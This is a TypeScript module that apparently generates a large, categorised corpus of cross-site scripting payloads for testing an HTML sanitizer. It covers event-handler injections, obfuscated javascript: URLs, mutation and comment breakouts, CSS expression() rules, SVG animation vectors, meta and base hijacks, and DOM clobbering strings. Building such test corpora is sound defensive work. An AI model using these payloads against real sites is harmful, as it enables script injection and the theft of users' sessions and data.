// Texts that try to run code in a page, by class. The classes come from published collections (HTML5 Security Cheatsheet,
// DOMPurify, OWASP). The texts were written for this project, and none is a copy.

const CALL = 'alert(1)';
const IMAGE = `<img src=x onerror=${CALL}>`;
const words = (text: string): string[] => text.split(/\s+/).filter(Boolean);
const each = (...lists: readonly (readonly string[])[]): string[][] =>
  lists.reduce<string[][]>((rows, list) => rows.flatMap((row) => list.map((one) => [...row, one])), [[]]);

const EVENTS =
  words(`abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut
  beforeinput beforepaste beforeprint beforetoggle beforeunload begin blur bounce cancel canplay canplaythrough change click close
  contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop
  durationchange emptied end ended error finish focus focusin focusout formdata gotpointercapture hashchange input invalid keydown
  keypress keyup load loadeddata loadedmetadata loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove
  mouseout mouseover mouseup mousewheel pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter
  pointerleave pointermove pointerout pointerover pointerup popstate progress ratechange repeat reset resize scroll scrollend search
  securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange stalled start storage submit suspend
  timeupdate toggle touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unload
  unhandledrejection volumechange waiting webkitanimationend webkittransitionend wheel`);
const CARRIERS = words('p a img table td svg math video details body input x-y');

const SCRIPT_SCHEMES = [
  ...words(`javascript: JAVASCRIPT: JaVaScRiPt: javascript&colon; javascript&#58; javascript&#x3a; javascript&#0000058
    &#106;avascript: &#x6a;avascript: &#x6A&#x61vascript: java&#9;script: java&#10;script: java&#13;script: java&Tab;script:
    java&NewLine;script: &#1;javascript: &#14;javascript: &#32;javascript: &#160;javascript: vbscript: livescript: mocha:
    view-source:javascript: feed:javascript: jar:javascript: x:javascript: javascript\\: j%61vascript:`),
  ' javascript:',
  '\tjavascript:',
  '\u0000javascript:',
  'java\u0000script:',
  'java\nscript:',
  'java\u200bscript:',
  'java\u00adscript:',
  'java\u202escript:',
  'javascript\u2028:',
  'javascript :',
  'ｊavascript:',
  'javascript://a.example/%0a',
];
const OTHER_SCHEMES =
  words(`data:text/html,<script>${CALL}</script> data:text/html;base64,PHNjcmlwdD4= data:image/svg+xml,<svg/onload=${CALL}>
  data:application/xhtml+xml,x data:,x blob:https://a.example/1 file:///etc/passwd filesystem:https://a.example/x about:blank
  ms-its:x mhtml:x wyciwyg:x resource:x chrome:x intent:x#Intent;end`);
/** `@` stands for the address. */
const PLACES = [
  '<a href="@">x</a>',
  "<a href='@'>x</a>",
  '<a href="https://a.example" href="@">x</a>',
  '<area href="@">',
  '<img src="@">',
  '<img srcset="@ 1x">',
  '<iframe src="@"></iframe>',
  '<embed src="@">',
  '<object data="@"></object>',
  '<form action="@"><button>x</button></form>',
  '<button formaction="@">x</button>',
  '<svg><a xlink:href="@"><text y=9>x</text></a></svg>',
  '<svg><use href="@"/></svg>',
  '<math href="@">x</math>',
  '<link rel=stylesheet href="@">',
  '<blockquote cite="@">x</blockquote>',
  '<video poster="@"><source src="@"></video>',
  '<table background="@"><td>x</table>',
];

const RAW = words('style title textarea noscript noembed noframes xmp iframe script template plaintext select');
const FOREIGN = [
  '<svg>',
  '<math>',
  '<svg><desc>',
  '<svg><foreignObject>',
  '<math><mtext>',
  '<math><annotation-xml encoding="text/html">',
  '<math><mtext><table><mglyph>',
  '<form><math><mtext></form><form><mglyph>',
];

const SCRIPTS = each(
  [
    '<script>',
    '<SCRIPT >',
    '<script/x>',
    '<script\n>',
    '<script src=//a.example/x.js>',
    '<script type=module>',
    '<script\u0000>',
    '<<script>',
    '<scr<script>ipt>',
    '<svg><script>',
    '<svg><script href="data:,alert(1)">',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">',
  ],
  [CALL],
  ['</script>', '', '</script >', '</script/x>', '<!--'],
).map((parts) => parts.join(''));

const AROUND = each(
  [
    '<!-->',
    '<!--->',
    '<!-- --!>',
    '<!---->',
    '<![CDATA[',
    '<?xml >',
    '<!x>',
    '</ x>',
    '</>',
    '<!--[if gte IE 4]>',
    '<!DOCTYPE x [<!ENTITY y "z">]>',
    '<%',
    '&lt;',
    '<//',
  ],
  [IMAGE, `<svg onload=${CALL}>`, `<script>${CALL}</script>`],
  ['', '-->', ']]>', '--!>'],
).map((parts) => parts.join(''));

const TORN = each(
  ['<img', '<IMG', '<\u0000img', '<img\u0000', '<a', '<p', '<img x=`y`', '<img """>', "<img '", '<b <img'],
  ['/', ' ', '\t', '\n', '\f', '\r', '\u00a0', '//', '/x/', '"', "'", '`'],
  [`src=x onerror=${CALL}>`, `onerror="${CALL}" src=x>x`],
).map((parts) => parts.join(''));

const STYLES = [
  ...each(
    ['<p style="@">x</p>', '<style>p{@}</style>', '<svg><style>*{@}</style></svg>', '<td style="@">'],
    [
      'background:url(javascript:alert(1))',
      'width:expression(alert(1))',
      '-moz-binding:url(//a.example/x)',
      'behavior:url(x.htc)',
      "background:url('//a.example')",
      '\\65xpression(alert(1))',
      'position:fixed;inset:0',
      "@import '//a.example/x.css'",
      'color:red}*{display:none',
      'content:"</style><img src=x onerror=alert(1)>"',
    ],
  ).map(([place = '', rule = '']) => place.replace('@', rule)),
];

const DRAWINGS = words('animate set animateTransform animateMotion handler listener image feImage').flatMap((name) => [
  `<svg><${name} onbegin=${CALL} attributeName=x dur=1s></svg>`,
  `<svg><a><${name} attributeName=href values="javascript:${CALL}"/><text y=9>x</text></a></svg>`,
  `<svg><${name} href="javascript:${CALL}" to="javascript:${CALL}"></svg>`,
]);

const LOADERS = [
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  '<meta charset=utf-7>+ADw-script+AD4-',
  '<meta http-equiv=set-cookie content=a=b>',
  '<base href="javascript:/">',
  '<base href=//a.example target=x>',
  '<link rel=import href=//a.example>',
  '<link rel=prefetch href=//a.example>',
  '<link rel=manifest href=x>',
  `<iframe srcdoc="${IMAGE}"></iframe>`,
  '<iframe src=//a.example sandbox></iframe>',
  '<frameset><frame src="javascript:1"></frameset>',
  '<object type=text/html data=//a.example></object>',
  '<applet code=x></applet>',
  '<portal src=//a.example></portal>',
  '<fencedframe></fencedframe>',
  '<form action=//a.example><input name=x><input type=submit></form>',
  '<input type=image src=x formaction=//a.example>',
  '<isindex action="javascript:1" type=image>',
  '<keygen autofocus onfocus=alert(1)>',
  '<dialog open onclose=alert(1)>x</dialog>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<bgsound src="javascript:1">',
  '<layer src=//a.example></layer>',
  '<xml id=x><a></a></xml>',
  '<slot name=x></slot>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<a ping=//a.example href=/x>x</a>',
  '<a download href=/x>x</a>',
  '<img src=x usemap=#m><map name=m><area href="javascript:1"></map>',
  '<audio src=x onerror=alert(1)>',
  '<video><track src="javascript:1"></video>',
  '<script type=speculationrules>{"prefetch":[]}</script>',
  '<script type=importmap>{}</script>',
  '<a popovertarget=x href=/x>x</a>',
  '<button popovertarget=menu>x</button>',
  '<p popover id=menu>x</p>',
];

const NAMES = words(
  'body forms cookie domain location getElementById querySelector constructor __proto__ attributes nodeName parentNode innerHTML submit action currentScript main search menu part-1 title',
);
const CLOBBERING = each(NAMES, [
  '<a id="@">x</a>',
  '<a name="@">x</a>',
  '<img name="@" src=x>',
  '<form name="@"><input name="@"></form>',
  '<p id="@" class="@" data-island="@">x</p>',
  '<object id="@"></object>',
  '<iframe name="@"></iframe>',
]).map(([name = '', place = '']) => place.replaceAll('@', name));

/** The classes and their texts. */
export const attacks: Readonly<Record<string, readonly string[]>> = {
  'event handlers': each(CARRIERS, EVENTS).map(([tag = '', event = ''], index) => {
    const quote = ['"', "'", ''][index % 3] ?? '';
    return `<${tag} on${event}=${quote}${CALL}${quote} tabindex=1>x`;
  }),
  'addresses that run a script': each(PLACES, SCRIPT_SCHEMES).map(([place = '', scheme = '']) =>
    place.replaceAll('@', scheme + CALL),
  ),
  'other addresses': each(PLACES, OTHER_SCHEMES).map(([place = '', address = '']) => place.replaceAll('@', address)),
  'script elements': SCRIPTS,
  'texts that are read in two ways (mutation)': each(FOREIGN, RAW, ['attribute', 'escaped']).map(
    ([foreign = '', raw = '', way]) =>
      way === 'attribute'
        ? `${foreign}<${raw}><a id="</${raw}>${IMAGE}">`
        : `${foreign}<${raw}>&lt;/${raw}&gt;&lt;img src=x onerror=${CALL}&gt;</${raw}>${IMAGE}`,
  ),
  'ends of elements that hold text': each(RAW, [IMAGE, `<svg onload=${CALL}>`, `<script>${CALL}</script>`]).map(
    ([raw = '', payload = '']) => `<${raw}><p title="</${raw}>${payload}">`,
  ),
  'comments and markers': AROUND,
  'torn tags and quotes': TORN,
  'style sheets': STYLES,
  drawings: DRAWINGS,
  'elements that load or send': LOADERS,
  'names that hide the page’s own (clobbering)': CLOBBERING,
};
